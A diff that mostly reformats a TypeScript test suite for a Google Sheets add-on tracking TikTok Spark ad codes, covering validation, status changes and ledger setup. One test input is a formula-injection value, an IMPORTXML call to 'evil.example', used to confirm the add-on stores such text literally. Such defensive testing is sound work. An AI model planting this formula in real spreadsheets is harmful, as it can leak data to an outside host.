@@ -25,7 +25,12 @@ describe('requestCode', () => {
   it('stores a 19-digit id, a Spark code, a handle and formula-looking text exactly', () => {
     const h = setup();
     const url = 'https://www.tiktok.com/@creator.one/video/7412345678901234567';
-    const tricky = { usageNotes: '=IMPORTXML("http://evil.example","//a")', contract: '+44 20 7946 0000', excludedCategories: '-alcohol', campaign: '0012' };
+    const tricky = {
+      usageNotes: '=IMPORTXML("http://evil.example","//a")',
+      contract: '+44 20 7946 0000',
+      excludedCategories: '-alcohol',
+      campaign: '0012',
+    };
     const r = h.addon.requestCode(requestInput(0, { videoUrl: url, ...tricky }));
     expect(r.ok).toBe(true);
     expect(cell(h, 2, 'Video ID')).toBe('7412345678901234567');
@@ -39,22 +44,44 @@ describe('requestCode', () => {
     expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
 
     const code = '#+tDYPaG3Bqpz5XP1c7sFD6Bik0zk2qQbJPZy/Gp6y39SN3=';
-    expect(h.addon.recordCode({ videoUrl: url, sparkCode: code, authorizedOn: '2026-03-01', authDays: 7 }).ok).toBe(true);
+    expect(h.addon.recordCode({ videoUrl: url, sparkCode: code, authorizedOn: '2026-03-01', authDays: 7 }).ok).toBe(
+      true,
+    );
     expect(cell(h, 2, 'Spark code')).toBe(code);
     const rec = h.addon.getRecord(url);
-    expect(rec).toMatchObject({ videoId: '7412345678901234567', sparkCode: code, creatorHandle: '@creator.one', ...tricky, authorizedOn: '2026-03-01', expiresOn: '2026-03-08' });
+    expect(rec).toMatchObject({
+      videoId: '7412345678901234567',
+      sparkCode: code,
+      creatorHandle: '@creator.one',
+      ...tricky,
+      authorizedOn: '2026-03-01',
+      expiresOn: '2026-03-08',
+    });
   });
 
   it('refuses bad input with every error at once and writes nothing', () => {
     const h = setup();
     const before = JSON.stringify(h.emu.toJSON());
     h.emu.calls.reset();
-    const r = h.addon.requestCode(requestInput(0, {
-      videoUrl: 'https://www.tiktok.com/@creator.one/video/abc', creatorHandle: 'x', client: 'Unknown Co', requestedDays: 0,
-      approvalOwner: 'nobody', preRequestChecks: ['Post is live'],
-    }));
+    const r = h.addon.requestCode(
+      requestInput(0, {
+        videoUrl: 'https://www.tiktok.com/@creator.one/video/abc',
+        creatorHandle: 'x',
+        client: 'Unknown Co',
+        requestedDays: 0,
+        approvalOwner: 'nobody',
+        preRequestChecks: ['Post is live'],
+      }),
+    );
     expect(r.ok).toBe(false);
-    expect(r.errors.map((e: { field: string }) => e.field).sort()).toEqual(['approvalOwner', 'client', 'creatorHandle', 'preRequestChecks', 'requestedDays', 'videoUrl']);
+    expect(r.errors.map((e: { field: string }) => e.field).sort()).toEqual([
+      'approvalOwner',
+      'client',
+      'creatorHandle',
+      'preRequestChecks',
+      'requestedDays',
+      'videoUrl',
+    ]);
     expect(h.emu.calls.count('Range.setValues')).toBe(0);
     expect(JSON.stringify(h.emu.toJSON())).toBe(before);
   });
@@ -62,18 +89,31 @@ describe('requestCode', () => {
   it('refuses a handle that does not match the URL', () => {
     const h = setup();
     const r = h.addon.requestCode(requestInput(0, { creatorHandle: '@someone.else' }));
-    expect(r).toEqual({ ok: false, errors: [{ field: 'creatorHandle', message: expect.stringContaining('does not match') }] });
+    expect(r).toEqual({
+      ok: false,
+      errors: [{ field: 'creatorHandle', message: expect.stringContaining('does not match') }],
+    });
   });
 
   it('refuses a duplicate video or code, naming the row that has it', () => {
     const h = setup();
     expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
     expect(h.addon.requestCode(requestInput(2)).ok).toBe(true);
-    const dup = h.addon.requestCode(requestInput(3, { videoUrl: videoUrl(2).toUpperCase().replace('HTTPS://WWW.TIKTOK.COM', 'tiktok.com') + '?x=1' }));
+    const dup = h.addon.requestCode(
+      requestInput(3, { videoUrl: videoUrl(2).toUpperCase().replace('HTTPS://WWW.TIKTOK.COM', 'tiktok.com') + '?x=1' }),
+    );
     expect(dup.ok).toBe(false);
     expect(dup.errors[0]).toEqual({ field: 'videoUrl', message: expect.stringContaining('row 3') });
-    expect(h.addon.recordCode({ videoUrl: videoUrl(1), sparkCode: sparkCode(9), authorizedOn: '2026-03-01', authDays: 30 }).ok).toBe(true);
-    const code = h.addon.recordCode({ videoUrl: videoUrl(2), sparkCode: sparkCode(9), authorizedOn: '2026-03-01', authDays: 30 });
+    expect(
+      h.addon.recordCode({ videoUrl: videoUrl(1), sparkCode: sparkCode(9), authorizedOn: '2026-03-01', authDays: 30 })
+        .ok,
+    ).toBe(true);
+    const code = h.addon.recordCode({
+      videoUrl: videoUrl(2),
+      sparkCode: sparkCode(9),
+      authorizedOn: '2026-03-01',
+      authDays: 30,
+    });
     expect(code).toEqual({ ok: false, errors: [{ field: 'sparkCode', message: expect.stringContaining('row 2') }] });
   });
 
@@ -91,7 +131,10 @@ describe('requestCode', () => {
     const counts: number[] = [];
     for (const n of [10, 10000]) {
       const h = setup();
-      fillLedger(h.emu, Array.from({ length: n }, (_, i) => receivedRecord(i + 100)));
+      fillLedger(
+        h.emu,
+        Array.from({ length: n }, (_, i) => receivedRecord(i + 100)),
+      );
       h.emu.calls.reset();
       expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
       counts.push(h.emu.calls.total);
@@ -101,7 +144,11 @@ describe('requestCode', () => {
 
   it('grows a full sheet in one step of at least 500 rows', () => {
     const h = setup();
-    fillLedger(h.emu, Array.from({ length: 20 }, (_, i) => receivedRecord(i + 100)), 0);
+    fillLedger(
+      h.emu,
+      Array.from({ length: 20 }, (_, i) => receivedRecord(i + 100)),
+      0,
+    );
     const sheet = h.emu.spreadsheet.getSheetByName('Ledger')!;
     sheet.deleteRows(sheet.getLastRow() + 1, sheet.getMaxRows() - sheet.getLastRow());
     expect(sheet.getMaxRows()).toBe(sheet.getLastRow());
@@ -122,7 +169,10 @@ describe('lifecycle through the sheet', () => {
     h.emu.calls.reset();
     const r = h.addon.changeStatus({ videoUrl: videoUrl(1), status: 'Spending', spendStart: '2026-03-01' });
     expect(r.ok).toBe(false);
-    expect(r.errors[0]).toEqual({ field: 'status', message: 'A row in Requested cannot move to Spending: it can move to Received, Retired.' });
+    expect(r.errors[0]).toEqual({
+      field: 'status',
+      message: 'A row in Requested cannot move to Spending: it can move to Received, Retired.',
+    });
     expect(h.emu.calls.count('Range.setValues')).toBe(0);
     expect(cell(h, 2, 'Status')).toBe('Requested');
   });
@@ -131,14 +181,31 @@ describe('lifecycle through the sheet', () => {
     const h = setup();
     const url = videoUrl(1);
     expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
-    expect(h.addon.recordCode({ videoUrl: url, sparkCode: sparkCode(1), authorizedOn: '2026-03-01', authDays: 30 }).ok).toBe(true);
+    expect(
+      h.addon.recordCode({ videoUrl: url, sparkCode: sparkCode(1), authorizedOn: '2026-03-01', authDays: 30 }).ok,
+    ).toBe(true);
     const act = h.addon.changeStatus({ videoUrl: url, status: 'Activated' });
     expect(act.ok).toBe(false);
-    expect(act.errors.map((e: { field: string }) => e.field)).toEqual(['objective', 'paidOwner', 'creatorOwner', 'language', 'currency', 'landingPage']);
+    expect(act.errors.map((e: { field: string }) => e.field)).toEqual([
+      'objective',
+      'paidOwner',
+      'creatorOwner',
+      'language',
+      'currency',
+      'landingPage',
+    ]);
     expect(h.addon.changeStatus({ videoUrl: url, status: 'Activated', ...activationFields() }).ok).toBe(true);
     expect(h.addon.changeStatus({ videoUrl: url, status: 'Spending', spendStart: '2026-03-02' }).ok).toBe(true);
-    const done = h.addon.changeStatus({ videoUrl: url, status: 'Retired', retirementReason: 'Other', decisionNote: 'Client paused the brand' });
-    expect(done).toMatchObject({ ok: true, record: { status: 'Retired', renewalDecision: 'Retire', spendStart: '2026-03-02', row: 2 } });
+    const done = h.addon.changeStatus({
+      videoUrl: url,
+      status: 'Retired',
+      retirementReason: 'Other',
+      decisionNote: 'Client paused the brand',
+    });
+    expect(done).toMatchObject({
+      ok: true,
+      record: { status: 'Retired', renewalDecision: 'Retire', spendStart: '2026-03-02', row: 2 },
+    });
     expect(cell(h, 2, 'Status')).toBe('Retired');
     expect(h.addon.changeStatus({ videoUrl: url, status: 'Spending' }).errors[0].message).toMatch(/Retired is final/);
   });
@@ -154,15 +221,24 @@ describe('lifecycle through the sheet', () => {
     sheet.getRange(3, 6).setFormula('=1+1');
     const url = videoUrl(1);
     expect(h.addon.requestCode(requestInput(1)).ok).toBe(true);
-    expect(h.addon.recordCode({ videoUrl: url, sparkCode: sparkCode(1), authorizedOn: '2026-03-01', authDays: 30 }).ok).toBe(true);
+    expect(
+      h.addon.recordCode({ videoUrl: url, sparkCode: sparkCode(1), authorizedOn: '2026-03-01', authDays: 30 }).ok,
+    ).toBe(true);
     expect(h.addon.changeStatus({ videoUrl: url, status: 'Activated', ...activationFields() }).ok).toBe(true);
     expect(h.addon.updateRecord({ videoUrl: url, spend: 120.5, usageNotes: 'US only' }).ok).toBe(true);
-    expect(h.addon.changeStatus({ videoUrl: url, status: 'Retired', retirementReason: 'Campaign ended' }).ok).toBe(true);
+    expect(h.addon.changeStatus({ videoUrl: url, status: 'Retired', retirementReason: 'Campaign ended' }).ok).toBe(
+      true,
+    );
     expect(h.addon.setupLedger()).toEqual({ created: [], repaired: [] });
     expect(sheet.getRange(1, 6).getValue()).toBe('Agency notes');
     expect(sheet.getRange(2, 6).getValue()).toBe('keep me');
     expect(sheet.getRange(3, 6).getFormula()).toBe('=1+1');
-    expect(h.addon.getRecord(url)).toMatchObject({ status: 'Retired', spend: 120.5, usageNotes: 'US only', client: 'Northwind Foods' });
+    expect(h.addon.getRecord(url)).toMatchObject({
+      status: 'Retired',
+      spend: 120.5,
+      usageNotes: 'US only',
+      client: 'Northwind Foods',
+    });
   });
 });
 
@@ -176,10 +252,43 @@ describe('setupLedger', () => {
     expect(JSON.stringify(emu.toJSON())).toBe(snapshot);
     const ledger = emu.spreadsheet.getSheetByName('Ledger')!;
     expect(ledger.getFrozenRows()).toBe(1);
-    expect(emu.spreadsheet.getSheetByName('Settings')!.getDataRange().getValues().map((r) => r[4]).slice(1, 21)).toEqual(
-      ['US', 'GB', 'AU', 'BR', 'CA', 'CO', 'FI', 'FR', 'DE', 'ID', 'IT', 'JP', 'MY', 'MX', 'PK', 'PH', 'PT', 'RO', 'ES', 'CH'],
-    );
-    expect(emu.spreadsheet.getSheetByName('Audit')!.getProtections(emu.globals.SpreadsheetApp ? (emu.globals.SpreadsheetApp as any).ProtectionType.SHEET : 'SHEET')[0].isWarningOnly()).toBe(true);
+    expect(
+      emu.spreadsheet
+        .getSheetByName('Settings')!
+        .getDataRange()
+        .getValues()
+        .map((r) => r[4])
+        .slice(1, 21),
+    ).toEqual([
+      'US',
+      'GB',
+      'AU',
+      'BR',
+      'CA',
+      'CO',
+      'FI',
+      'FR',
+      'DE',
+      'ID',
+      'IT',
+      'JP',
+      'MY',
+      'MX',
+      'PK',
+      'PH',
+      'PT',
+      'RO',
+      'ES',
+      'CH',
+    ]);
+    expect(
+      emu.spreadsheet
+        .getSheetByName('Audit')!
+        .getProtections(
+          emu.globals.SpreadsheetApp ? (emu.globals.SpreadsheetApp as any).ProtectionType.SHEET : 'SHEET',
+        )[0]
+        .isWarningOnly(),
+    ).toBe(true);
   });
 
   it('puts dropdowns on enumerated columns and the automatic format (never plain text) on text columns', () => {
@@ -188,7 +297,16 @@ describe('setupLedger', () => {
     const header = ledger.getRange(1, 1, 1, ledger.getLastColumn()).getValues()[0];
     const col = (h: string) => header.indexOf(h) + 1;
     const status = ledger.getRange(2, col('Status')).getDataValidation()!;
-    expect(status.getCriteriaValues()[0]).toEqual(['Requested', 'Received', 'Activated', 'Spending', 'Paused', 'Renewal needed', 'Expired', 'Retired']);
+    expect(status.getCriteriaValues()[0]).toEqual([
+      'Requested',
+      'Received',
+      'Activated',
+      'Spending',
+      'Paused',
+      'Renewal needed',
+      'Expired',
+      'Retired',
+    ]);
     expect(status.getHelpText()).toMatch(/transitions/);
     expect(ledger.getRange(2, col('Video ID')).getNumberFormat()).toBe('0.###############');
     expect(ledger.getRange(2, col('Spark code')).getNumberFormat()).toBe('0.###############');
@@ -213,7 +331,9 @@ describe('setupLedger', () => {
     expect(header()[0]).toBe('Client');
     expect(header()[header().length - 1]).toBe('Comments');
     expect(h.addon.getRecord(videoUrl(1))).toMatchObject({ client: 'Northwind Foods', status: 'Requested' });
-    expect(h.addon.changeStatus({ videoUrl: videoUrl(1), status: 'Retired', retirementReason: 'Creator request' }).ok).toBe(true);
+    expect(
+      h.addon.changeStatus({ videoUrl: videoUrl(1), status: 'Retired', retirementReason: 'Creator request' }).ok,
+    ).toBe(true);
     expect(sheet.getRange(2, 1).getValue()).toBe('Northwind Foods');
   });
 });
